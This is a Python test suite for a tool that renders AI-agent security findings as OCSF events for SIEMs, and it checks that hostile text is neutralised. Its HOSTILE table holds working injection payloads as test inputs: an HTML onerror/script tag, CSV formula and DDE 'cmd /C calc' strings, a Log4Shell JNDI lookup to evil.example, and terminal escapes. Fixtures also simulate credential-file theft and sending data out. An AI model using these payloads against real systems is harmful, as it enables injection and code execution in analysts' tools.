"""What a SIEM does with a finding: reads it by another model of OCSF, stores so many bytes, shows texts as it likes."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from typing import Any

import orjson
import pytest
from alert_strategies import alerts
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from py_ocsf_models.events.findings.detection_finding import DetectionFinding

from triptych.models import changes, finding, ocsf, testing
from triptych.models.changes import Change
from triptych.models.detections.engine import Rulebook
from triptych.models.events import Alert, Effect, RuleHit, TimelineEntry
from triptych.models.text import inert

Problems = Callable[[dict[str, Any], str], list[str]]

BOOK = Rulebook.load()
EVERY_VERSION = pytest.mark.parametrize("version", ocsf.VERSIONS)
HOSTILE = {
    "terminal": "\x1b]0;owned\x07\x1b[2Jrm",
    "eight-bit terminal": "\x9b31m",
    "log line": 'ok\r\n2026-11-23 10:00:00 {"severity":"Informational"}',
    "unicode line": "a\u2028b\u0085c",
    "html": '<img src=x onerror="alert(1)"></td><script>1</script>',
    "markdown link": "[sign in](https://evil.example)",
    "markdown image": "![x](https://evil.example/a.png)",
    "markdown reference": "[x][evil]",
    "markdown code": "```\nrm -rf\n```",
    "slack mention": "<!channel>",
    "formula": '=HYPERLINK("https://evil.example","x")',
    "formula behind a blank": " \t@SUM(1+1)*cmd|' /C calc'!A0",
    "wide formula": "\uff1d1+1",
    "log lookup": "${jndi:ldap://evil.example/a}",
    "template": "{{7*7}}{% include x %}#{7*7}",
    "direction": "\u202egnp.exe",
    "tag characters": "\U000e0041\U000e0042",
}
ACTIVE = re.compile(r"[<>`\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e]|\]\(|\]\[|[${#]\{|\{%")
FORMULA = re.compile(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")


def texts(value: Any) -> Iterator[str]:
    """Every text of a document."""
    if isinstance(value, str):
        yield value
    for item in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from texts(item)


def stolen() -> Alert:
    effects = (
        testing.exec_("/usr/bin/python3", "-c", "pass", at_s=0.05),
        testing.read("/home/ann/.aws/credentials", 0.2),
        testing.send("203.0.113.7:443", 1200, 0.4),
    )
    turn = testing.turn(testing.call("read_config", *effects), spans=[testing.span()])
    return finding.assemble(turn, BOOK.evaluate(turn, {}).hits, None, {}, tenant="acme")


def hostile(text: str) -> Alert:
    """A finding of a server that puts the text wherever it can: tool, claimed name, path, argument, program."""
    effects = (
        testing.exec_(text, text, text, at_s=0.05),
        testing.read(f"/home/ann/.aws/{text}", 0.1),
        testing.read("/home/ann/.aws/credentials", 0.2),
        replace(testing.send("203.0.113.7:443", 1200, 0.4), comm=text, address=text),
    )
    call = testing.call(text, *effects, anomalies=(text,), server=text)
    turn = testing.turn(call, spans=[testing.span(name=text, agent=text)])
    alert = finding.assemble(turn, BOOK.evaluate(turn, {}).hits, None, {}, tenant="acme")
    return replace(alert, tool=text, unobserved=(text,))


def read_by_others(alert: Alert) -> bool:
    """Whether py-ocsf-models takes the finding and reads its uid. Raises ValidationError where it does not."""
    document = orjson.loads(ocsf.render(alert, tenant="acme", version="1.5.0"))
    return bool(DetectionFinding.model_validate(document).finding_info.uid == document["finding_info"]["uid"])


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow])
@given(alert=alerts())
def test_another_model_of_ocsf_1_5_takes_any_finding(alert: Alert) -> None:
    assert read_by_others(alert)


@pytest.mark.parametrize("rule", BOOK.rules, ids=[rule.id for rule in BOOK.rules])
def test_another_model_of_ocsf_1_5_takes_the_stories_of_a_rule(rule: Any) -> None:
    for story in (test.story for test in rule.tests if test.expect == "hit"):
        turn, views = testing.story(story)
        alert = finding.assemble(turn, BOOK.evaluate(turn, views).hits, None, views, tenant="acme")
        assert read_by_others(alert)


@EVERY_VERSION
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_what_the_watched_side_writes_arrives_as_words(text: str, version: str, ocsf_problems: Problems) -> None:
    line = ocsf.render(hostile(text), tenant="acme", version=version)
    document = orjson.loads(line)
    assert [found for found in texts(document) if ACTIVE.search(found) or FORMULA.match(found)] == []
    assert line.isascii() or "\u2028" not in line.decode()
    assert ocsf_problems(document, version) == []


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_no_cell_of_an_exported_table_is_a_formula(text: str) -> None:
    sheet = io.StringIO()
    csv.writer(sheet).writerow(texts(orjson.loads(ocsf.render(hostile(text), tenant="acme"))))
    (cells,) = csv.reader(io.StringIO(sheet.getvalue()))
    assert [cell for cell in cells if FORMULA.match(cell)] == []


@given(text=st.text(max_size=400), cap=st.integers(1, 300))
def test_text_made_inert_stays_so_and_within_its_cap(text: str, cap: int) -> None:
    made = inert(text, cap)
    assert len(made) <= cap
    assert not ACTIVE.search(made)
    assert not FORMULA.match(made)
    assert inert(made, cap) == made


def test_an_ordinary_path_arrives_as_it_is() -> None:
    document = orjson.loads(ocsf.render(stolen(), tenant="acme"))
    assert "/home/ann/.aws/credentials" in {one["value"] for one in document["observables"]}


CHANGES = st.builds(
    Change,
    kind=st.sampled_from(["rule", "model", "exception", "finding"]),
    subject=st.text(min_size=1),
    action=st.sampled_from(["create", "update", "delete", "refuse"]),
    before=st.text(),
    after=st.text(),
    reason=st.text() | st.sampled_from(list(HOSTILE.values())),
    by=st.text(),
)


@EVERY_VERSION
@given(change=CHANGES, at_ns=st.integers(0, 2**62))
def test_every_change_of_what_judges_is_a_valid_audit_event(
    version: str, change: Change, at_ns: int, ocsf_problems: Problems
) -> None:
    document = orjson.loads(changes.render(change, tenant="acme", version=version, at_ns=at_ns))
    assert ocsf_problems(document, version) == []
    assert [found for found in texts(document) if ACTIVE.search(found) or FORMULA.match(found)] == []


@EVERY_VERSION
@settings(max_examples=20, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(alert=alerts(st.sampled_from(["é" * 3000, "<" * 3000, "/" * 3000, "=" * 3000])), many=st.integers(50, 400))
def test_no_finding_is_too_long_for_any_siem(version: str, alert: Alert, many: int, ocsf_problems: Problems) -> None:
    hit = RuleHit(id="é" * 3000, title="é" * 3000, severity="high", attacks=("AML.T0086",) * many)
    effect = Effect(kind="open", path="é" * 4000, comm="é" * 4000, source="s")
    entry = TimelineEntry(layer="execution", title="é" * 4000, source="é" * 4000)
    grown = replace(
        alert, rules=(hit,) * many, effects=(effect,) * many, timeline=(entry,) * many, labels=("é" * 4000,) * many
    )
    line = ocsf.render(grown, tenant="acme", version=version)
    assert len(line) < ocsf.CAP
    assert ocsf_problems(orjson.loads(line), version) == []


@EVERY_VERSION
def test_200_kilobytes_of_evidence_become_60_and_the_finding_says_so(version: str) -> None:
    paths = (f"/home/ann/.aws/{number:03}{'x' * 1000}" for number in range(200))
    effects = tuple(replace(testing.read(path, 0.1), source=path[-1004:-1000]) for path in paths)
    line = ocsf.render(replace(stolen(), effects=effects), tenant="acme", version=version)
    document = orjson.loads(line)
    said = document["unmapped"] if version == "1.5.0" else document["metadata"]
    assert said["is_truncated"]
    assert len(line) < ocsf.CAP < said["untruncated_size"]


def test_evidence_is_given_up_before_the_timeline() -> None:
    effects = tuple(replace(testing.read(f"/srv/{n}{'x' * 400}", 0.1), source=f"s{n}") for n in range(100))
    timeline = tuple(TimelineEntry(wall_ns=n, layer="execution", title="read", source=f"s{n}") for n in range(100))
    document = orjson.loads(ocsf.render(replace(stolen(), effects=effects, timeline=timeline), tenant="acme"))
    assert (len(document["evidences"]), len(document["finding_info"]["related_events"])) == (20, 100)


def test_what_is_held_back_says_why_and_is_no_alert(ocsf_problems: Problems) -> None:
    line = ocsf.render(stolen(), tenant="acme", suppressed="exception backup-job of ann until 2027-01-01")
    document = orjson.loads(line)
    assert (document["status_id"], document["status"], document["is_alert"]) == (3, "Suppressed", False)
    assert "backup-job" in document["status_detail"]
    assert document["metadata"]["log_name"] == "mcp.alerts.suppressed"
    assert ocsf_problems(document, "1.8.0") == []


@pytest.mark.parametrize(("label", "verdict"), [("verdict:true", 2), ("verdict:false", 1)])
def test_the_verdict_of_an_analyst_resolves_a_finding(label: str, verdict: int, ocsf_problems: Problems) -> None:
    document = orjson.loads(ocsf.render(replace(stolen(), labels=(label,)), tenant="acme"))
    assert (document["status_id"], document["is_alert"]) == (4, False)
    assert {evidence["verdict_id"] for evidence in document["evidences"]} == {verdict}
    assert ocsf_problems(document, "1.8.0") == []


def test_a_verdict_does_not_make_a_test_real() -> None:
    document = orjson.loads(ocsf.render(replace(stolen(), labels=("verdict:true", "test")), tenant="acme"))
    assert {evidence["verdict_id"] for evidence in document["evidences"]} == {6}
